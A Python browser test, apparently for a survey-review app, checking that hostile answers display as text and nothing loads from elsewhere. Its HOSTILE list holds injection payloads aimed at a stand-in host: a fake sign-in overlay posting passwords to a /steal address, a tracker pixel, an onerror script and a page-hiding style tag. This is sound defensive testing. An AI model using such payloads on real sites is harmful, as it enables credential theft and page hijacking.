"""Hostile answers in a real browser (issue 17): respondent and reviewer text is shown as text,
never as HTML or Markdown, and the page never loads anything from elsewhere.

Skipped when /usr/bin/chromium is absent (CI installs it: see .ci/run)."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator

import pytest

from tests.conftest import SAMPLE, launched_app
from tests.test_browser import ARGS, CHROMIUM, shot, wait_version

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium is not installed"),
]

ELSEWHERE = "203.0.113.9"  # a documentation address: nothing may be fetched from it
HOSTILE = [
    f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">'
    f'<form action="http://{ELSEWHERE}/steal"><p>Session expired, sign in again</p>'
    f'<input type="password" name="pw"><button>Sign in</button></form></div> waiting times',
    f"![tracker](http://{ELSEWHERE}/pixel.png) the waiting times for appointments are too long",
    f'<img src="http://{ELSEWHERE}/img.png" onerror="document.title=\'owned\'"> parking is bad',
    f"[click here](http://{ELSEWHERE}/phish) for better appointments at the surgery",
    "**Bold claim** and <b>html bold</b> about waiting for the GP",
    f"<style>body{{display:none}}</style> <a href='http://{ELSEWHERE}/x'>link</a> parking fees",
]


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = tmp_path_factory.mktemp("hostile")
    with SAMPLE.open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.reader(source))
    header, body = rows[0], rows[1:]
    question = next(i for i, name in enumerate(header) if name.startswith("What are the top"))
    for i, row in enumerate(body[:120]):
        row[question] = HOSTILE[i % len(HOSTILE)] + f" ({i})"
    path = root / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([header, *body])
    with launched_app(root, path) as url:
        FILES[url] = str(path)
        yield url


FILES: dict[str, str] = {}


def hostile_url_file(url: str) -> str:
    """The hostile export the app at ``url`` was started on."""
    return FILES[url]


def test_hostile_answers_are_shown_as_text_and_nothing_loads_from_elsewhere(
    hostile_url: str,
) -> None:
    from playwright.sync_api import sync_playwright

    requested: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=ARGS
        )
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.set_default_timeout(30_000)
        page.on("request", lambda request: requested.append(request.url))
        response = page.goto(hostile_url)
        assert response is not None
        policy = response.headers.get("content-security-policy", "")
        assert "form-action 'self'" in policy and "default-src 'self'" in policy
        page.get_by_text("Version 0").first.wait_for()
        page.get_by_label("Your name (recorded with each edit)").fill("Sam")
        # A reviewer's hostile theme name and definition are text too.
        page.get_by_role("textbox", name="Theme name", exact=True).fill(
            f"<img src=http://{ELSEWHERE}/label.png> ![x](http://{ELSEWHERE}/l.png) Waits"
        )
        page.get_by_role("button", name="Rename", exact=True).click()
        wait_version(page, 1)
        # Every theme's detail (quotes, keywords, label) is drawn once.
        themes = (
            page.locator(".block").filter(has=page.get_by_text("Theme to review", exact=True)).last
        )
        count = themes.get_by_role("radio").count()
        assert count > 3
        literal = 0
        for i in range(count):
            themes.get_by_role("radio").nth(i).check()  # fails if an overlay covers the page
            page.wait_for_timeout(300)
            dangerous = page.locator(
                f"form, input[type=password], img[src*='{ELSEWHERE}'], a[href*='{ELSEWHERE}']"
            )
            assert dangerous.count() == 0, dangerous.first.evaluate("e => e.outerHTML")[:300]
            literal += page.get_by_text('<form action="http://').count()
            literal += page.get_by_text("![tracker](http://").count()
        assert literal > 0  # the answers are there, shown as the characters typed
        assert page.title() != "owned"
        shot(page, "hostile-review")
        page.get_by_role("tab", name="Projects").click()
        page.wait_for_timeout(500)
        # A quick look at the same hostile export: its preview table shows the answers as text.
        page.get_by_text("New project from a survey export").click()
        with page.expect_file_chooser() as chooser:
            page.get_by_text("Click to Upload").last.click()
        chooser.value.set_files(hostile_url_file(hostile_url))
        page.get_by_text(re.compile(r"680 kept")).first.wait_for()
        page.get_by_role("button", name="Quick look (preview)").click()
        preview = page.locator("#quick-look")
        preview.get_by_text("Quick look, a preview").wait_for(timeout=120_000)
        dangerous = page.locator(
            f"form, input[type=password], img[src*='{ELSEWHERE}'], a[href*='{ELSEWHERE}']"
        )
        assert dangerous.count() == 0, dangerous.first.evaluate("e => e.outerHTML")[:300]
        assert preview.locator("table tr").count() > 3
        shot(page, "hostile-quick-look")
        assert preview.get_by_text(f'<img src="http://{ELSEWHERE}').count() > 0  # as typed
        assert page.title() != "owned"
        browser.close()
    assert not [url for url in requested if ELSEWHERE in url], requested
